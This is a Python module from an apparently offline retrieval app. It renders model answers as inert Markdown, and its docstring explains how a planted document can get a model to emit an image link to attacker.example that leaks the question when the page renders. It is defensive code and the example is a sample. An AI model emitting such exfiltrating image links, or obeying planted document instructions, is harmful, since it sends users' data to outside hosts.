"""Text from documents (answers, quoted passages) -> Markdown that shows it as text: no image is fetched and no link
leads off the machine.

An answer quotes documents, and a language model may write what a planted document told it to. Rendered as
Markdown, ``![x](http://attacker.example/p.png?q=...)`` makes the browser fetch that address the moment the answer
is shown (a way to send the question or the context off the machine, and a request the offline UI must never
make), and ``[the manual](http://attacker.example)`` is a link that looks like a citation. So every image is shown
as its text, a link to an absolute address shows its address as code (not clickable), and reference definitions
are shown as written. Relative links (the app's own routes, such as /rag-car/source) stay links. Streamlit already
escapes raw HTML (``unsafe_allow_html`` is never set for such text).
"""

from __future__ import annotations

import re
from typing import Iterable, Iterator

_IMAGE = re.compile(r"!(?=\[)")
_LINK = re.compile(r"(!?)\[([^\[\]\n]*)\]\(\s*<?([^()\s<>]+(?:\([^()\s]*\))?[^()\s<>]*)>?(?:\s+[\"'(][^\n]*?[\"')])?\s*\)")
_REFERENCE = re.compile(r"^( {0,3})\[([^\]\n]+)\]:", re.MULTILINE)
_OWN = re.compile(r"^(?:/(?!/)|#|\?)")  # a path of this server, an anchor or a query on the page itself


def inert(text: str) -> str:
    """``text`` with images shown as text and links off the machine shown as their address."""
    if not text:
        return text
    text = _LINK.sub(_link, text)
    text = _IMAGE.sub(r"!\\", text)  # reference-style images: ![x][ref]
    return _REFERENCE.sub(r"\1\\[\2]:", text)


def _link(match: re.Match[str]) -> str:
    image, label, target = match.group(1), match.group(2), match.group(3)
    shown = target.replace("`", "")
    if image:
        return f"{label} (image `{shown}`)" if label.strip() else f"(image `{shown}`)"
    if _OWN.match(target):
        return match.group(0)
    return f"{label} (`{shown}`)" if label.strip() else f"`{shown}`"


def inert_stream(pieces: Iterable[str]) -> Iterator[str]:
    """:func:`inert` over streamed pieces: an image's ``!`` and its ``[`` may come in different pieces, so a
    trailing ``!`` waits for the next one. (A link whose parts arrive apart stays a link while it streams;
    the answer is shown again through :func:`inert` when it is complete.)"""
    held = ""
    for piece in pieces:
        text = held + piece
        held = "!" if text.endswith("!") else ""
        if held:
            text = text[:-1]
        if text:
            yield _IMAGE.sub(r"!\\", text)
    if held:
        yield held
